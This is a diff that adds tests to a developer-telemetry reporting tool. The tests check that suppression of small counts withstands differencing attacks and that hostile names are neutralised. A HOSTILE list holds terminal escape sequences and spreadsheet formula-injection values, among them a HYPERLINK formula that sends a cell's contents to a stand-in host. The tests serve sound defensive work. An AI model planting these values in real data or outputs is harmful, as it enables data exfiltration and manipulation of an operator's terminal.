@@ -491,3 +491,139 @@ def test_the_report_of_a_real_collector_matches_the_events_sent(tmp_path: Path) 
     )
     assert got["total"]["runs"] == expected["total"]["runs"] > 1000
     assert got == expected
+
+
+# ---- the adversarial round's reproductions (one report, two windows, hostile names) ----
+
+
+def _person(i: int, os: str = "linux") -> dict[str, Any]:
+    return {"id": f"00000000-0000-4000-8000-{i:012d}", "os": (os, "1"), "arch": "amd64",
+            "ci": False, "tool_version": "0.1.0", "app_version": "1"}  # fmt: skip
+
+
+def _at(day: str, hour: int = 9) -> datetime:
+    return datetime.fromisoformat(f"{day}T{hour:02d}:00:00+00:00")
+
+
+def test_one_report_pins_no_cell_through_the_idle_list_or_the_targets(tmp_path: Path) -> None:
+    """Attack r10/r11: in W43 six developers run dev.a, five run dev.c (traced: target c.step,
+    run only inside dev.c), one runs dev.x; dev.x is hidden, dev.c hidden beside it. The idle
+    list once gave dev.c's 5 developers and the targets table c.step's 10 runs, each pinning
+    dev.x to 1 run. Now neither says how many."""
+    rng = random.Random(4)
+    people = [_person(i) for i in range(6)]
+    events = []
+    for i, who in enumerate(people):
+        events += [event(rng, who, "dev.a", _at(f"2026-10-2{j}"), 1000.0, 0, False)
+                   for j in range(4)]  # fmt: skip
+        events.append(event(rng, who, "dev.a", _at("2026-12-01"), 1000.0, 0, False))
+        if i < 5:
+            for day in ("2026-10-22", "2026-12-02"):
+                events.append(event(rng, who, "dev.c", _at(day, 10), 1000.0, 0, True, ["c.step"]))
+        else:
+            events.append(event(rng, who, "dev.x", _at("2026-10-22", 11), 1000.0, 1, False))
+    doc = report_text.as_dict(_build(events, tmp_path, weeks=12))
+    hidden = {(c["week"], c["command"]) for c in doc["commands"] if c["suppressed"]}
+    assert ("2026-W43", "dev.x") in hidden and len(hidden) >= 2
+    assert [i["command"] for i in doc["idle"]] == ["dev.x"]
+    assert all(set(i) == {"command", "last_week"} for i in doc["idle"])
+    (step,) = doc["targets"]
+    assert step["name"] == "c.step" and not step["suppressed"]
+    assert {"runs", "developers", "failures", "critical"}.isdisjoint(step)
+    assert step["critical_share"] in (0.0, 0.1, 0.2, 0.3, 0.4, 0.5, 0.6, 0.7, 0.8, 0.9, 1.0)
+    _check_unrecoverable([doc], events, 5)
+
+
+def _team_and_one(command: str, start: datetime, tmp_path: Path) -> Any:
+    """Five developers run dev.test daily for two weeks; a sixth runs `command` once."""
+    rng = random.Random(3)
+    events = [
+        event(rng, _person(i), "dev.test", _at(day), 1000.0, 0, False)
+        for i in range(5)
+        for day in ("2026-11-23", "2026-11-24", "2026-11-25", "2026-11-30", "2026-12-01",
+                    "2026-12-02", "2026-12-03")
+    ]  # fmt: skip
+    events.append(event(rng, _person(5, "windows"), command, start, 5000.0, 3, False))
+    return events, report.duckdb_reader(in_duckdb(events, tmp_path))
+
+
+def test_two_reports_a_few_seconds_apart_give_back_nothing(tmp_path: Path) -> None:
+    """Attack r1: `--since` one second before and one after a lone run; the two reports differed
+    by exactly that run. `--since` now starts at its ISO week's Monday: the reports are equal."""
+    events, read = _team_and_one("dev.secret", _at("2026-12-02", 15), tmp_path)
+    docs = [
+        report_text.as_dict(report.build(read, report.options(NOW, since=moment)))
+        for moment in (_at("2026-12-02", 15) - timedelta(seconds=1),
+                       _at("2026-12-02", 15) + timedelta(seconds=1))
+    ]  # fmt: skip
+    assert docs[0]["since"] == "2026-11-30T00:00:00+00:00"
+    assert docs[0] == docs[1]
+    _check_unrecoverable(docs, events, 5)
+
+
+def test_two_reports_of_other_weeks_give_back_no_hidden_week(tmp_path: Path) -> None:
+    """Attack r1b: a week of one developer's single run, hidden in `--weeks 12`, came back as the
+    12-week total less the weeks `--weeks 2` shows. Now a total only sums shown weeks."""
+    events, read = _team_and_one("dev.rare", _at("2026-10-21", 8), tmp_path)
+    docs = [
+        report_text.as_dict(report.build(read, report.options(NOW, weeks=weeks)))
+        for weeks in (12, 2)
+    ]
+    assert [w["week"] for w in docs[0]["weeks"] if w["suppressed"]] == ["2026-W43"]
+    assert docs[0]["total"]["suppressed"] and not docs[1]["total"]["suppressed"]
+    _check_unrecoverable(docs, events, 5)
+
+
+def test_a_hidden_breakdown_value_is_not_named(tmp_path: Path) -> None:
+    """A team of six where one developer uses Windows: the OS breakdown shows linux and one
+    nameless hidden row, so the report does not tell that someone uses Windows."""
+    _, read = _team_and_one("dev.test", _at("2026-12-02", 15), tmp_path)
+    made = report.build(read, report.options(NOW, weeks=2))
+    doc = report_text.as_dict(made)
+    assert doc["breakdowns"]["os"] == [
+        {"value": None, "developers": None, "suppressed": True},
+    ]  # linux is hidden beside it: its 5 out of 6 would give windows's 1 back
+    from send_metrics.operator import report_html
+
+    outputs = [report_text.as_json(made), report_text.as_csv(made), *report_text.text(made)]
+    assert not [o for o in [*outputs, report_html.page(made)] if "windows" in o]
+
+
+HOSTILE = [
+    "evil\x1b]0;PWNED\x07\x1b[2J\x1b[31mRED\x9b",
+    '=HYPERLINK("http://x.test/?"&A1,"click")',
+    "+1",
+    "-2",
+    "@SUM(A1)",
+    "\tx",
+    "\rx",
+]
+
+
+def test_hostile_names_reach_no_terminal_and_no_spreadsheet_formula(tmp_path: Path) -> None:
+    """Attack r12: command, OS and version names from any sender with the write key carried
+    terminal escapes (OSC title, BEL, clear screen) raw to the operator's terminal and
+    formulas unquoted into the CSV."""
+    rng = random.Random(4)
+    events = [
+        event(rng, dict(_person(i), os=(name, "1"), app_version=name, tool_version=name), name,
+              _at("2026-12-01"), 1000.0, 0, True, [name])
+        for i in range(6)
+        for name in HOSTILE
+    ]  # fmt: skip
+    made = _build(events, tmp_path, weeks=1)
+    doc = report_text.as_dict(made)
+    assert sorted(c["command"] for c in doc["commands"]) == sorted(HOSTILE)  # JSON: exact
+    assert not [c for c in doc["commands"] if c["suppressed"]]
+    screen = "\n".join(report_text.text(made, width=200))
+    control = [ch for ch in screen if ch != "\n" and (ord(ch) < 32 or 127 <= ord(ch) < 160)]
+    assert not control
+    assert "evil\\x1b]0;PWNED\\x07\\x1b[2J\\x1b[31mRED\\x9b" in screen
+    rows = list(csv.reader(io.StringIO(report_text.as_csv(made), newline="")))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
+    assert not [
+        c for c in cells if c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit()
+    ]
+    assert '\'=HYPERLINK("http://x.test/?"&A1,"click")' in cells
+    assert "'\tx" in cells and "'-2" in cells
